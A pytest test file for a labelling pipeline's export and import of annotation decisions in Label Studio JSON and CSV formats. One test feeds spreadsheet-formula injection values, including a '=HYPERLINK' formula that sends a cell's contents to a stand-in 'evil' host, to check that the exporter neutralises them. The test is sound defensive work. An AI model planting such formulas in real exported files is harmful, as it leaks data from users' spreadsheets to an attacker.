"""Decisions to and from Label Studio's JSON and CSV."""

import csv
import json
from dataclasses import replace

import pytest

from imagepipe.base.decisions import Decision, append_decision, read_decisions
from imagepipe.base.errors import ModelError
from pipeline.labelling.exchange import EXCLUDED, export_decisions, import_decisions
from pipeline.labelling.work import Queue
from tests.pipeline.labelling.test_server import HASHES, make_work


def list_labels(path) -> dict:
    return {HASHES.index(sha256): decision.label for sha256, decision in read_decisions(str(path)).newest.items()}


@pytest.mark.parametrize("name", ["tasks.json", "decisions.csv"])
@pytest.mark.parametrize(
    ("task", "given"), [("classification", ['a "b", c', None, "7"]), ("multilabel", [["a", "b"], None, ["c"]])]
)
def test_what_is_exported_is_imported_as_it_was(name, task, given, tmp_path):
    work = make_work(tmp_path / "pictures", task)
    labels = tmp_path / "labels.jsonl"
    for sha256, label in zip(HASHES, given, strict=False):
        append_decision(labels, Decision(sha256, label, "id", by="ann", at="2026-11-29T09:00:00+00:00"))
    assert export_decisions(work, labels, tmp_path / name) == (6 if name == "tasks.json" else 3)
    other = tmp_path / "other.jsonl"
    added, skipped = import_decisions(work, other, tmp_path / name)
    assert (added, skipped) == (3, {"without a label": 3} if name == "tasks.json" else {})
    assert list_labels(other) == list_labels(labels) == dict(enumerate(given))
    first = read_decisions(str(other)).newest[HASHES[0]]
    assert (first.by, first.at, first.was, first.model) == ("ann", "2026-11-29T09:00:00+00:00", "daisy", "run-1")
    assert import_decisions(work, other, tmp_path / name)[0] == 0
    assert len(other.read_text().splitlines()) == 3


def test_no_cell_of_a_csv_is_a_formula_to_a_spreadsheet_and_all_are_imported_as_they_were(tmp_path):
    work, labels = make_work(tmp_path / "pictures"), tmp_path / "labels.jsonl"
    given = ["=1+1", "@a", "'=b", "'c", "-7"]
    for sha256, label in zip(HASHES, given, strict=False):
        append_decision(labels, Decision(sha256, label, '=HYPERLINK("http://evil/?"&A1)', by="+ann", was="-b"))
    export_decisions(work, labels, tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["label"] for row in rows] == ["'=1+1", "'@a", "''=b", "'c", "-7"]
    assert {(row["metadata"][:4], row["by"], row["was"]) for row in rows} == {("'=HY", "'+ann", "'-b")}
    other = tmp_path / "other.jsonl"
    import_decisions(work, other, tmp_path / "a.csv")
    assert list_labels(other) == dict(enumerate(given))
    assert {decision.by for decision in read_decisions(str(other)).newest.values()} == {"+ann"}


def test_numbers_are_exchanged_by_csv(tmp_path):
    work = make_work(tmp_path / "pictures", "regression", 2.0)
    (tmp_path / "a.csv").write_text(f"sha256,label\n{HASHES[0]},2.5\n{HASHES[1]},dear\n{HASHES[2]},\nx,1\n")
    added, skipped = import_decisions(work, tmp_path / "labels.jsonl", tmp_path / "a.csv")
    assert (added, list_labels(tmp_path / "labels.jsonl")) == (1, {0: 2.5})
    assert skipped == {
        "with a label that can't be used": 1,
        "without a label": 1,
        "without a sha256 of 64 small hexadecimal digits": 1,
    }


def test_separators_too_many_are_read_as_ingest_reads_them(tmp_path):
    work = make_work(tmp_path / "pictures", "multilabel")
    (tmp_path / "a.csv").write_text(f"sha256,label\n{HASHES[0]},a||b|\n{HASHES[1]},|\n")
    added, skipped = import_decisions(work, tmp_path / "labels.jsonl", tmp_path / "a.csv")
    assert (added, skipped) == (1, {"with a label that can't be used": 1})
    assert list_labels(tmp_path / "labels.jsonl") == {0: ["a", "b"]}


def test_of_a_csv_with_a_quote_too_many_nothing_is_imported(tmp_path):
    work, labels = make_work(tmp_path / "pictures"), tmp_path / "labels.jsonl"
    (tmp_path / "a.csv").write_text(f'sha256,label\n{HASHES[0]},a\n{HASHES[1]},"b\n{HASHES[2]},c\n')
    with pytest.raises(
        ModelError, match=r"can't be read as CSV: line \d+: unexpected end of data\. Is there a quote too many"
    ):
        import_decisions(work, labels, tmp_path / "a.csv")
    assert not labels.exists()


def test_an_older_file_undoes_nothing_that_the_same_person_decided_since(tmp_path):
    work, labels, csv = make_work(tmp_path / "pictures"), tmp_path / "new/labels.jsonl", tmp_path / "a.csv"
    changed, undone, timeless, same = HASHES[:4]
    for sha256 in (changed, undone, same):
        append_decision(labels, Decision(sha256, "a", by="ann", at="2026-11-01T09:00:00+00:00"))
    export_decisions(work, labels, csv)
    append_decision(labels, Decision(changed, "b", by="ann", at="2026-11-02T09:00:00+00:00"))
    append_decision(labels, Decision(undone, None, by="ann", at="2026-11-02T09:00:00+00:00", undone=True))
    append_decision(labels, Decision(timeless, "b", by="ann"))
    with csv.open("a") as file:
        file.write(f'"{changed}",,"c",,,"ann","1.12.2026 9:00"\n"{timeless}",,"a",,,"ann","2026-11-01"\n')
    older = "not later than the same person's last decision on the image"
    assert import_decisions(work, labels, csv) == (0, {"there already": 1, older: 4})
    assert list_labels(labels) == {0: "b", 2: "b", 3: "a"}
    csv.write_text(
        f"sha256,label,by,at\n{changed},c,ann,2026-11-02T10:30:00+01:00\n{undone},c,ann,2026-11-02T10:30:00.5Z\n"
        f"{same},c,ann,\n{changed},d,bob,2026-10-01\n"
    )
    assert import_decisions(work, labels, csv) == (4, {})
    assert list_labels(labels) == {0: "d", 1: "c", 2: "b", 3: "c"}


def test_images_that_have_left_a_captures_queues_come_with_their_decisions(tmp_path, capsys):
    work, labels = replace(make_work(tmp_path / "pictures"), is_captured=True), tmp_path / "labels.jsonl"
    for sha256 in HASHES[:3]:
        append_decision(tmp_path / "old.jsonl", Decision(sha256, "roses", by="ann"))
    export_decisions(work, tmp_path / "old.jsonl", tmp_path / "a.json")
    tasks = json.loads((tmp_path / "a.json").read_text())
    tasks[1]["data"]["image"] = tasks[0]["data"]["image"]  # as of a thumbnail
    tasks[2]["data"]["image"] = "data:image/png;base64,a"
    (tmp_path / "a.json").write_text(json.dumps(tasks))
    (tmp_path / "a.csv").write_text(f"sha256,metadata,label\n{HASHES[3]},daisy/3.jpg,roses\n{HASHES[4]},4,\n")
    later = replace(work, queues=[], originals=set())
    assert import_decisions(later, labels, tmp_path / "a.json")[0] == 3
    assert "2 decisions are about images that the queues have no longer" in capsys.readouterr().err
    assert import_decisions(later, labels, tmp_path / "a.csv")[0] == 1
    assert [path.name for path in (tmp_path / "labels.images").iterdir()] == [HASHES[0]]
    assert (tmp_path / "labels.images" / HASHES[0]).read_bytes() == bytes([0])
    ids = {HASHES.index(sha256): one.metadata for sha256, one in read_decisions(str(labels)).newest.items()}
    assert ids == {number: f"daisy/{number}.jpg" for number in (0, 1, 2, 3)}


def test_all_labels_that_a_model_answered_go_to_label_studio_and_no_other(tmp_path):
    work = make_work(tmp_path / "pictures", "multilabel")
    answers = (("roses", "daisy"), ("tulips",), ())
    items = [replace(item, answer=answer) for item, answer in zip(work.queues[0].items, answers, strict=False)]
    several = replace(work, queues=[Queue("errors", "", "", items)])
    export_decisions(several, tmp_path / "labels.jsonl", tmp_path / "a.json")
    predictions = [task["predictions"] for task in json.loads((tmp_path / "a.json").read_text())]
    choices = [[result["value"]["choices"] for one in some for result in one["result"]] for some in predictions]
    assert choices == [[["roses", "daisy"]], [["tulips"]], []]
    assert [one.get("score") for some in predictions for one in some] == [0.1, None]


@pytest.mark.parametrize("name", ["a.json", "a.csv"])
def test_an_image_that_is_excluded_and_has_a_label_too_can_not_be_used(name, tmp_path):
    choices = {HASHES[0]: [EXCLUDED, "daisy"], HASHES[1]: [EXCLUDED], HASHES[2]: ["daisy"]}
    if name == "a.csv":
        lines = [f"{sha256},{'|'.join(chosen)}\n" for sha256, chosen in choices.items()]
        (tmp_path / name).write_text("".join(["sha256,label\n", *lines]))
    else:
        tasks = [
            {"data": {"sha256": sha256}, "annotations": [{"result": [{"value": {"choices": chosen}}]}]}
            for sha256, chosen in choices.items()
        ]
        (tmp_path / name).write_text(json.dumps(tasks))
    work, labels = make_work(tmp_path / "pictures", "multilabel"), tmp_path / "labels.jsonl"
    assert import_decisions(work, labels, tmp_path / name) == (2, {"with a label that can't be used": 1})
    assert list_labels(labels) == {1: None, 2: ["daisy"]}


def test_numbers_are_read_as_ingest_reads_them(tmp_path):
    work, csv = make_work(tmp_path / "pictures", "regression", 2.0), tmp_path / "a.csv"
    texts = ["1_000", "\uff11\uff12", "1e999", "nan", "-1.5e3", "2"]
    csv.write_text("".join(["sha256,label\n", *(f"{h},{text}\n" for h, text in zip(HASHES, texts, strict=False))]))
    added, skipped = import_decisions(work, tmp_path / "labels.jsonl", csv)
    assert (added, skipped) == (2, {"with a label that can't be used": 4})
    assert list_labels(tmp_path / "labels.jsonl") == {4: -1500, 5: 2}


def test_annotators_who_disagree_are_both_kept_and_cancelled_ones_are_not(tmp_path):
    def annotate(choice, **more):
        result = [{"type": "choices", "from_name": "label", "to_name": "image", "value": {"choices": [choice]}}]
        return {"result": result, **more}

    tasks = [
        {
            "data": {"sha256": HASHES[0]},
            "annotations": [
                annotate("a", completed_by={"email": "ann@example.com"}),
                annotate("b", completed_by=7),
                annotate("c", was_cancelled=True),
            ],
        },
        {"data": {"sha256": HASHES[1]}, "annotations": [annotate(EXCLUDED)]},
        {"data": {"image": "x.jpg"}, "annotations": [annotate("a")]},
        {"annotations": 7},
        {"data": "x", "annotations": [annotate("a")]},
        7,
    ]
    (tmp_path / "a.json").write_text(json.dumps(tasks))
    work, labels = make_work(tmp_path / "pictures"), tmp_path / "labels.jsonl"
    added, skipped = import_decisions(work, labels, tmp_path / "a.json")
    assert (added, list_labels(labels)) == (3, {0: "b", 1: None})
    assert skipped == {"without a sha256 of 64 small hexadecimal digits": 1, "no tasks with data and annotations": 3}
    (disputed,) = read_decisions(str(labels)).disputes.values()
    assert [(one.by, one.label) for one in disputed] == [("ann@example.com", "a"), ("7", "b")]
    assert import_decisions(work, labels, tmp_path / "a.json")[0] == 0


def test_a_file_that_is_none_of_the_two_is_named(tmp_path):
    work = make_work(tmp_path / "pictures")
    for name, content in (("a.txt", ""), ("a.csv", "path,label\n"), ("a.json", "["), ("b.csv", "\0")):
        (tmp_path / name).write_text(content)
        with pytest.raises(ModelError, match=name):
            import_decisions(work, tmp_path / "labels.jsonl", tmp_path / name)
